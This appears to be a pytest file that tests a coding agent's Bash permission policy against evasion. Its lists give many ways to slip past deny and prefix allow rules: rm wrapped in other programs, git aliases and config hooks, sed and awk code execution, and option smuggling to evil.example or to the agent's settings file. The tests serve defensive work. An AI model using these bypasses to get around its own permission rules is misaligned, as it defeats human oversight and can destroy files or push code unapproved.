"""Issue 19, item 3: the permission rules hold against what the attacker ran, for real.

Each hostile command goes through the real gate (fake API -> PermissionPolicy -> real tool in a temp
project, see rules_harness) and the test proves with a marker file or the remote's ref that nothing
happened; then the same command run directly by bash proves that the attack was real (skipped, with
the reason, where the program is missing or needs root). Deny rules on Bash are a guard against
mistakes, not a sandbox: commands whose code no rule on names can see into are asked, never allowed.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
from rules_harness import gated_call, git, installed, remote_head, repo_with_remote, run_bash

from agent.permissions.policy import PermissionPolicy
from agent.tools.bash import BashTool

NEEDS_ROOT = {"chroot", "unshare", "su", "runuser", "sg"}

# (program, command): each makes bash run rm on the marker {x} (an absolute path) through a program
# that runs other programs. Under deny Bash(rm:*) with allow Bash they are denied outright.
WRAPPED_RM = [
    ("flock", "flock {dir}/F rm {x}"),
    ("flock", "flock {dir}/F -c 'rm {x}'"),
    ("chroot", "chroot / rm {x}"),
    ("unshare", "unshare rm {x}"),
    ("setpriv", "setpriv rm {x}"),
    ("script", "script -qc 'rm {x}' /dev/null"),
    ("strace", "strace -o /dev/null rm {x}"),
    ("prlimit", "prlimit rm {x}"),
    ("prlimit", "prlimit --nofile=256 rm {x}"),
    ("chrt", "chrt -o 0 rm {x}"),
    ("sg", "sg root -c 'rm {x}'"),
    ("sg", "sg root 'rm {x}'"),
    ("su", "su -c 'rm {x}'"),
    ("su", "su root -c 'rm {x}'"),
    ("runuser", "runuser -u root -- rm {x}"),
    ("runuser", "runuser -c 'rm {x}' root"),
    ("watch", "timeout 1 watch -n 0.1 'rm {x}'"),
    ("watch", "timeout 1 watch -n 0.1 rm {x}"),
    ("parallel", "parallel rm ::: {x}"),
    ("parallel", "parallel 'rm {{}}' ::: {x}"),
    ("busybox", "busybox rm {x}"),
    ("git", "git -c core.fsmonitor='rm {x}' status"),
    ("git", "git -c core.sshCommand='rm {x}' ls-remote ssh://host/repo"),
    ("git", "git -c core.editor='rm {x}' commit --allow-empty"),
    ("setarch", "setarch linux64 rm {x}"),
]
# The same, judged only: these need a system service, another namespace or a display to run here.
WRAPPED_RM_DECISION_ONLY = [
    "nsenter -t 1 -m rm x", "pkexec rm x", "systemd-run --user rm x", "xvfb-run rm x", "fakeroot rm x",
    "eatmydata rm x", "unbuffer rm x", "torsocks rm x", "proxychains -q rm x", "valgrind rm x", "ltrace rm x",
    "dbus-run-session rm x", "envdir ./env rm x", "chpst -u nobody rm x", "setuidgid nobody rm x", "tini rm x",
    "dumb-init rm x", "direnv exec . rm x", "sem rm x ::: y", "catchsegv rm x", "firejail rm x",
    "sudo flock F chrt -o 0 prlimit strace -o /dev/null rm x", "bash -c \"script -qc 'rm x' /dev/null\"",
    "git -c core.sshCommand='sh -c \"rm x\"' fetch", "git -c filter.a.clean='rm x' add .",
    "git -c diff.external='rm x' diff", "git -c credential.helper='!rm x' fetch", "git rebase --exec='rm x' HEAD~1",
    "git difftool -x 'rm x'", "git bisect run rm x", "git -c uploadpack.packObjectsHook='rm x' fetch",
]

# Programs that hold code: under a deny rule on Bash they are asked (denied headless), never allowed.
CODE_HOLDING = [
    ("sed", "sed -n '1e rm {x}' {dir}/f"),
    ("sed", "sed 's|.*|rm {x}|e' {dir}/f"),
    ("awk", "awk 'BEGIN{{system(\"rm {x}\")}}'"),
    ("awk", "awk 'BEGIN{{print | \"rm {x}\"}}'"),
    ("perl", "perl -e 'unlink \"{x}\"'"),
    ("python3", "python3 -c 'import os; os.remove(\"{x}\")'"),
    ("tar", "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm {x}' {dir}/f"),
    ("tar", "tar -I 'sh -c \"rm {x}\" #' -cf /dev/null {dir}/f"),
    ("make", "make -C {dir}"),
    ("find", "find {dir} -name x -delete"),
    ("cp", "cp /bin/rm {dir}/d && {dir}/d {x}"),
    ("cp", "cp /bin/rm ./d && ./d {x}"),
    ("git", "GIT_SSH_COMMAND='rm {x}' git ls-remote ssh://host/repo"),
    ("git", "export GIT_SSH_COMMAND='rm {x}'; git ls-remote ssh://host/repo"),
    ("git", "env GIT_EDITOR='rm {x}' git commit --allow-empty"),
    ("git", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='rm {x}' git status"),
]


def project_with_marker(root: Path) -> tuple[Path, Path]:
    root.mkdir(parents=True)
    git("init", "-q", str(root), cwd=root.parent)
    (root / "f").write_text("line\n")
    git("add", "f", cwd=root)
    git("commit", "-qm", "one", cwd=root)
    (root / "Makefile").write_text(f"all:\n\trm -f {root / 'x'}\n")
    marker = root / "x"
    marker.write_text("keep me\n")
    return root, marker


def rm_policy(project: Path) -> PermissionPolicy:
    return PermissionPolicy(project, allow=["Bash"], deny=["Bash(rm:*)"])


async def assert_nothing_happens(fake_api, project: Path, marker: Path, command: str, expected: str) -> None:
    policy = rm_policy(project)
    decision = policy.check(BashTool(), {"command": command})
    assert decision.behavior == expected, decision.reason
    headless = await gated_call(fake_api, policy, "Bash", {"command": command})
    assert headless.is_error and ("not granted" in headless.result or "denied" in headless.result)
    assert marker.exists(), f"{command!r} removed the marker through the gate"
    chat = await gated_call(fake_api, policy, "Bash", {"command": command}, chat=True, answer=False)
    assert chat.is_error and marker.exists()
    assert len(chat.questions) == (1 if expected == "ask" else 0)  # a deny rule never asks


def prove_attack_is_real(tmp_path: Path, program: str, command_template: str) -> None:
    if not installed(program):
        pytest.skip(f"{program} is not installed: the decision was checked, the real run skipped")
    if program in NEEDS_ROOT and os.geteuid() != 0:
        pytest.skip(f"{program} needs root to run: the decision was checked, the real run skipped")
    project, marker = project_with_marker(tmp_path / "unguarded")
    done = run_bash(command_template.format(x=marker, dir=project), project)
    assert not marker.exists(), f"the attack did not work here: {done.stderr[-300:]}"


@pytest.mark.parametrize(("program", "command"), WRAPPED_RM)
async def test_deny_rm_holds_against_rm_run_through_another_program(fake_api, tmp_path, program, command):
    project, marker = project_with_marker(tmp_path / "guarded")
    await assert_nothing_happens(fake_api, project, marker, command.format(x=marker, dir=project), "deny")
    prove_attack_is_real(tmp_path, program, command)


@pytest.mark.parametrize("command", WRAPPED_RM_DECISION_ONLY)
def test_deny_rm_sees_through_wrappers_that_cannot_run_here(command):
    assert rm_policy(Path("/tmp/p")).check(BashTool(), {"command": command}).behavior == "deny"


@pytest.mark.parametrize(("program", "command"), CODE_HOLDING)
async def test_programs_that_hold_code_are_asked_under_a_deny_rule_and_denied_headless(
        fake_api, tmp_path, program, command):
    project, marker = project_with_marker(tmp_path / "guarded")
    await assert_nothing_happens(fake_api, project, marker, command.format(x=marker, dir=project), "ask")
    prove_attack_is_real(tmp_path, program, command)


def test_an_allow_rule_naming_the_program_speaks_for_the_code_it_runs() -> None:
    policy = PermissionPolicy(Path("/tmp/p"), allow=["Bash(make:*)", "Bash(npm test:*)"], deny=["Bash(rm:*)"])
    assert policy.check(BashTool(), {"command": "make all"}).behavior == "allow"
    assert policy.check(BashTool(), {"command": "npm test"}).behavior == "allow"
    assert policy.check(BashTool(), {"command": "make all && rm x"}).behavior == "deny"
    assert policy.check(BashTool(), {"command": "python3 -c 'x'"}).behavior == "ask"


def test_harmless_uses_of_code_holding_programs_stay_allowed_under_a_deny_rule() -> None:
    policy = PermissionPolicy(Path("/tmp/p"), allow=["Bash"], deny=["Bash(rm:*)"])
    for command in ("sed -n 1,5p f", "sed 's/a/b/' f", "awk '{print $1}' f", "tar -tf a.tar", "find . -name '*.py'",
                    "ls -la", "/usr/bin/env ls", "flock F ls", "chrt -p 1", "prlimit --pid 1"):
        assert policy.check(BashTool(), {"command": command}).behavior == "allow", command


# --- deny Bash(git push:*) with allow Bash(git:*) ---------------------------------------------------

GIT_PUSHES = [
    "git send-pack {remote} main",
    "git -c alias.x=push x origin main",
    "git -c alias.x='!git push origin main' x",
    "git pp origin main",  # an alias in the repository's .git/config
    "git shp",  # a `!` alias in .git/config
    "git -C {work} pp origin main",
    "git rebase -x 'git push origin main' HEAD~1",
    "git submodule foreach git push",
    "/usr/lib/git-core/git-push origin main",
    "git --exec-path=/usr/lib/git-core push origin main",
    "git rebase --exe='git push origin main' HEAD~1",
]


def push_policy(work: Path) -> PermissionPolicy:
    return PermissionPolicy(work, allow=["Bash(git:*)"], deny=["Bash(git push:*)"])


@pytest.mark.parametrize("command", GIT_PUSHES)
async def test_deny_git_push_holds_against_push_by_another_name(fake_api, tmp_path, command):
    remote, work = repo_with_remote(tmp_path / "guarded")
    git("config", "alias.pp", "push", cwd=work)
    git("config", "alias.shp", "!git push origin main", cwd=work)
    before, text = remote_head(remote), command.format(remote=remote, work=work)
    assert push_policy(work).check(BashTool(), {"command": text}).behavior == "deny"
    run = await gated_call(fake_api, push_policy(work), "Bash", {"command": text})
    assert run.is_error and remote_head(remote) == before
    if "submodule" in command or "rebase" in command or not os.path.exists("/usr/lib/git-core/git-push"):
        return  # these need more set-up to push for real; the decision is what is proven
    proof_remote, proof_work = repo_with_remote(tmp_path / "unguarded")
    git("config", "alias.pp", "push", cwd=proof_work)
    git("config", "alias.shp", "!git push origin main", cwd=proof_work)
    run_bash(command.format(remote=proof_remote, work=proof_work), proof_work)
    assert remote_head(proof_remote) == git("rev-parse", "main", cwd=proof_work), "the push did not happen"


async def test_an_alias_the_model_defined_a_moment_ago_is_judged_from_the_real_config(fake_api, tmp_path):
    remote, work = repo_with_remote(tmp_path / "repo")
    before = remote_head(remote)
    policy = push_policy(work)
    define = await gated_call(fake_api, policy, "Bash", {"command": "git config alias.up push"})
    assert not define.is_error and git("config", "alias.up", cwd=work) == "push"
    push = await gated_call(fake_api, policy, "Bash", {"command": "git up origin main"})
    assert push.is_error and "git push" in push.result and remote_head(remote) == before
    in_one = "git config alias.up2 push && git up2 origin main"  # defined and used in one command: unknown
    assert policy.check(BashTool(), {"command": in_one}).behavior == "ask"
    run = await gated_call(fake_api, policy, "Bash", {"command": in_one})
    assert run.is_error and remote_head(remote) == before


def test_plain_git_commands_stay_allowed_under_deny_git_push(tmp_path):
    _, work = repo_with_remote(tmp_path / "repo")
    policy = push_policy(work)
    for command in ("git status", "git log --oneline", "git -C . status", "git fetch origin", "git pull --ff-only"):
        assert policy.check(BashTool(), {"command": command}).behavior == "allow", command


# --- options a prefix rule never covers -----------------------------------------------------------

OPTION_FAMILIES = [  # (allow rule, command that it must not allow)
    ("Bash(git log:*)", "git log --output=.claude/settings.local.json"),
    ("Bash(git log:*)", "git log --output .claude/settings.local.json"),
    ("Bash(git log:*)", "git log -p --output=/tmp/anything"),
    ("Bash(git diff:*)", "git diff --output=.claude/settings.local.json"),
    ("Bash(git diff:*)", "git diff HEAD --output=notes.txt"),
    ("Bash(git show:*)", "git show --output=x"),
    ("Bash(git format-patch:*)", "git format-patch -o .claude/commands HEAD~1"),
    ("Bash(git:*)", "git -c core.fsmonitor='touch x' status"),
    ("Bash(git:*)", "git -c core.pager='sh evil' log"),
    ("Bash(git:*)", "git -c alias.s='!touch x' s"),
    ("Bash(git:*)", "git -c include.path=/tmp/evil status"),
    ("Bash(git:*)", "git --exec-path=/tmp/evil status"),
    ("Bash(git:*)", "git rebase -x 'touch x' HEAD~2"),
    ("Bash(git:*)", "git fetch --upload-pack='touch x' origin"),
    ("Bash(git:*)", "git clone -u 'touch x' origin y"),
    ("Bash(git:*)", "git clone --template=/tmp/hooks origin y"),
    ("Bash(git:*)", "git submodule foreach 'touch x'"),
    ("Bash(git:*)", "git bisect run ./evil"),
    ("Bash(git:*)", "git grep -O'touch x' foo"),
    ("Bash(npm test:*)", "npm test --node-options=--require=./evil.js"),
    ("Bash(npm test:*)", "npm test --node-options --require=./evil.js"),
    ("Bash(npm test:*)", "npm test --script-shell=./evil.sh"),
    ("Bash(npm test:*)", "npm test --shell=./evil.sh"),
    ("Bash(npm test:*)", "npm test --userconfig=./evil.npmrc"),
    ("Bash(npm test:*)", "npm test --globalconfig=./evil"),
    ("Bash(npm test:*)", "npm test --prefix=/tmp/other"),
    ("Bash(npm test:*)", "npm test --registry=http://evil.example"),
    ("Bash(npm test:*)", "npm test --onload-script=./evil.js"),
    ("Bash(npm test:*)", "npm test --init-module=./evil.js"),
    ("Bash(npm test:*)", "npm test --editor=./evil"),
    ("Bash(npm test:*)", "npm test --node-gyp=./evil"),
    ("Bash(npm test:*)", "npm test -c 'touch x'"),
    ("Bash(npm run build:*)", "npm run build --script-shell ./evil"),
    ("Bash(yarn test:*)", "yarn test --cwd /tmp/other"),
    ("Bash(pnpm test:*)", "pnpm test -C /tmp/other"),
    ("Bash(pnpm test:*)", "pnpm test --config.script-shell=./evil"),
    ("Bash(npx jest:*)", "npx jest --node-options=--require=./evil.js"),
    ("Bash(pip install:*)", "pip install -i http://evil.example/simple x"),
    ("Bash(pip install:*)", "pip install --index-url=http://evil.example x"),
    ("Bash(pip install:*)", "pip install --extra-index-url http://evil.example x"),
    ("Bash(pip install:*)", "pip install -r evil.txt"),
    ("Bash(pip install:*)", "pip install --target=/usr/lib/python3/dist-packages x"),
    ("Bash(pip install:*)", "pip install -e ../elsewhere"),
    ("Bash(pip install:*)", "pip install --trusted-host evil.example x"),
    ("Bash(python -m pip install:*)", "python -m pip install -i http://evil.example x"),
    ("Bash(python3:*)", "python3 -c 'import os'"),
    ("Bash(python3:*)", "python3 -Bc 'import os'"),
    ("Bash(python3:*)", "python3 -m http.server"),
    ("Bash(python3:*)", "python3 -"),
    ("Bash(python3:*)", "python3 -X importtime -c 1"),
    ("Bash(python -m pytest:*)", "python -m pytest -p evil_plugin"),
    ("Bash(python -m pytest:*)", "python -m pytest --basetemp=/home"),
    ("Bash(python -m pytest:*)", "python -m pytest -o addopts=-pevil"),
    ("Bash(pytest:*)", "pytest -c /tmp/evil.ini"),
    ("Bash(pytest:*)", "pytest --rootdir=/tmp/evil"),
    ("Bash(pytest:*)", "pytest --pastebin=all"),
    # long options taken by an unambiguous prefix (git, npm's nopt, pip's optparse, pytest's argparse)
    ("Bash(git log:*)", "git log --outp=.claude/settings.local.json"),
    ("Bash(git:*)", "git rebase --exe='touch x' HEAD~1"),
    ("Bash(npm test:*)", "npm test --node-opt=--require=./evil.js"),
    ("Bash(npm test:*)", "npm test --scr=./evil.sh"),
    ("Bash(npm test:*)", "npm test --reg=http://evil.example"),
    ("Bash(pip install:*)", "pip install --ind=http://evil.example x"),
    ("Bash(pytest:*)", "pytest --basete=/home"),
]
STILL_COVERED = [
    ("Bash(git log:*)", "git log --oneline -5"),
    ("Bash(git diff:*)", "git diff --stat HEAD"),
    ("Bash(git:*)", "git -c color.ui=never status"),
    ("Bash(git:*)", "git commit -m 'x'"),
    ("Bash(npm test:*)", "npm test"),
    ("Bash(npm test:*)", "npm test --silent"),
    ("Bash(npm test:*)", "npm test -- --watch --config=jest.config.js"),
    ("Bash(pip install:*)", "pip install requests==2.31"),
    ("Bash(python3:*)", "python3 script.py --verbose"),
    ("Bash(python -m pytest:*)", "python -m pytest -k name -x tests/"),
    ("Bash(pytest:*)", "pytest -q tests/test_a.py"),
    ("Bash(git log --output=log.txt:*)", "git log --output=log.txt -5"),
]


@pytest.mark.parametrize(("rule", "command"), OPTION_FAMILIES)
def test_a_prefix_rule_never_covers_options_that_name_a_program_code_or_a_file(rule, command):
    policy = PermissionPolicy(Path("/tmp/p"), allow=[rule])
    decision = policy.check(BashTool(), {"command": command})
    assert decision.behavior == "ask", decision.reason
    assert PermissionPolicy(Path("/tmp/p"), allow=[rule], mode="acceptEdits").check(
        BashTool(), {"command": command}).behavior == "ask"


@pytest.mark.parametrize(("rule", "command"), STILL_COVERED)
def test_a_prefix_rule_still_covers_ordinary_options(rule, command):
    assert PermissionPolicy(Path("/tmp/p"), allow=[rule]).check(BashTool(), {"command": command}).behavior == "allow"


@pytest.mark.parametrize("rule", ["Bash(git log:*)", "Bash(git diff:*)"])
async def test_git_output_to_the_settings_file_writes_nothing_through_the_gate(fake_api, tmp_path, rule):
    _, work = repo_with_remote(tmp_path / "repo")
    (work / ".claude").mkdir()
    target = work / ".claude" / "settings.local.json"
    sub = rule[9:-3]
    command = f"git {sub} HEAD~1 --output=.claude/settings.local.json"
    policy = PermissionPolicy(work, allow=[rule])
    run = await gated_call(fake_api, policy, "Bash", {"command": command})
    assert run.is_error and not target.exists()
    chat = await gated_call(fake_api, policy, "Bash", {"command": command}, chat=True, answer=False)
    assert len(chat.questions) == 1 and not target.exists()
    run_bash(command, work)
    assert target.exists(), "git did not write the file: the attack was not real"


@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
@pytest.mark.parametrize("option", ["--node-options=--require=./evil.js", "--script-shell=./evil.sh"])
async def test_npm_test_with_a_program_option_runs_nothing_through_the_gate(fake_api, tmp_path, option):
    project = tmp_path / "pkg"
    project.mkdir()
    marker = project / "PWNED"
    (project / "package.json").write_text('{"name": "p", "version": "1.0.0", "scripts": {"test": "node -e 0"}}')
    (project / "evil.js").write_text(f"require('fs').writeFileSync({str(marker)!r}, 'x')\n")
    (project / "evil.sh").write_text(f"#!/bin/sh\ntouch '{marker}'\n")
    (project / "evil.sh").chmod(0o755)
    command = f"npm test {option}"
    policy = PermissionPolicy(project, allow=["Bash(npm test:*)"])
    run = await gated_call(fake_api, policy, "Bash", {"command": command})
    assert run.is_error and not marker.exists()
    home = tmp_path / "home"
    home.mkdir()
    run_bash(f"HOME={home} npm_config_cache={home}/.npm {command}", project, timeout=60)
    assert marker.exists(), "npm did not run the program: the attack was not real"


# --- generated: wrappers stacked in random order never hide rm ---------------------------------------

WRAPPER_PREFIXES = (
    "flock {dir}/F ", "chrt -o 0 ", "prlimit ", "setpriv ", "strace -o /dev/null ", "nice -n 5 ", "env X=1 ",
    "timeout 10 ", "nohup ", "command ", "time ", "stdbuf -o0 ", "setsid ", "unshare ", "chroot / ",
    "runuser -u root -- ", "sudo ", "xargs -a /dev/null -r ", "ionice -c 3 ", "busybox ", "flock -w 3 {dir}/F ",
    "prlimit --nofile=100 ", "chrt -r 5 ", "setarch linux64 ", "strace -f -e trace=all ", "unshare -m -u ",
    "setpriv --reuid=0 ", "env -i PATH=/bin:/usr/bin ", "sudo -u root ", "timeout -s KILL 5 ",
)
SHELL_FORMS = (  # each wraps a command as text, quoted properly however deep
    "bash -c {q}", "sh -c {q}", "script -qc {q} /dev/null", "su -c {q}", "sg root -c {q}", "eval {q}",
    "watch -n 1 {q}", "git -c core.sshCommand={q} ls-remote ssh://host/r", "git -c core.fsmonitor={q} status",
    "parallel {q} ::: 1", "flock {dir}/F -c {q}", "runuser -c {q} root", "git -c alias.z={bang} z",
    "find {dir}/f -exec sh -c {q} \\;",
)


def stacked(seed: int, count: int) -> list[str]:
    """rm wrapped in 1-5 random layers: programs that run argv, and shell text quoted with shlex."""
    import random
    import shlex

    rng = random.Random(seed)
    commands = []
    for _ in range(count):
        command = rng.choice(["rm {x}", "/bin/rm {x}", "'rm' {x}", "\\rm {x}"])
        for _ in range(rng.randint(1, 5)):
            if rng.random() < 0.5:
                command = rng.choice(WRAPPER_PREFIXES) + command
            else:
                form = rng.choice(SHELL_FORMS)
                command = form.replace("{q}", shlex.quote(command)).replace("{bang}", shlex.quote("!" + command))
        commands.append(command)
    return commands


def test_generated_stacks_of_wrappers_around_rm_are_always_denied():
    policy = rm_policy(Path("/tmp/p"))
    for command in stacked(19, 1500):
        text = command.format(dir="/tmp/p", x="/tmp/p/x")
        assert policy.check(BashTool(), {"command": text}).behavior == "deny", text


@pytest.mark.skipif(os.geteuid() != 0, reason="chroot, unshare, runuser, su and sg need root to run for real")
async def test_generated_stacks_really_run_rm_and_nothing_happens_through_the_gate(fake_api, tmp_path):
    missing = [p.split()[0] for p in (*WRAPPER_PREFIXES, *SHELL_FORMS) if not installed(p.split()[0])]
    runnable = (c for c in stacked(23, 200) if "watch" not in c and "xargs" not in c and "ssh://" not in c
                and "alias" not in c and not any(m + " " in c for m in missing))
    for i, command in enumerate(runnable):
        if i >= 12:
            break
        project, marker = project_with_marker(tmp_path / f"g{i}")
        text = command.format(dir=project, x=marker)
        run = await gated_call(fake_api, rm_policy(project), "Bash", {"command": text})
        assert run.is_error and marker.exists(), text
        run_bash(text, project)
        assert not marker.exists(), f"{text!r} did not run rm"


# --- a copy of a denied program under another name -------------------------------------------------

async def test_a_copy_of_rm_made_a_moment_ago_is_denied_by_what_its_name_runs(fake_api, tmp_path, monkeypatch):
    project, marker = project_with_marker(tmp_path / "guarded")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    policy = rm_policy(project)
    copy = await gated_call(fake_api, policy, "Bash", {"command": f"cp /bin/rm {bin_dir}/zap"})
    assert not copy.is_error and (bin_dir / "zap").exists()  # copying is not running rm
    assert policy.check(BashTool(), {"command": f"zap {marker}"}).behavior == "deny"
    run = await gated_call(fake_api, policy, "Bash", {"command": f"zap {marker}"})
    assert run.is_error and marker.exists()
    one_line = f"cp /bin/rm {bin_dir}/zap2 && zap2 {marker}"  # made and used in one command: unknown
    assert policy.check(BashTool(), {"command": one_line}).behavior == "ask"
    run = await gated_call(fake_api, policy, "Bash", {"command": one_line})
    assert run.is_error and marker.exists()
    run_bash(f"zap {marker}", project)
    assert not marker.exists(), "the copy did not remove the file: the attack was not real"
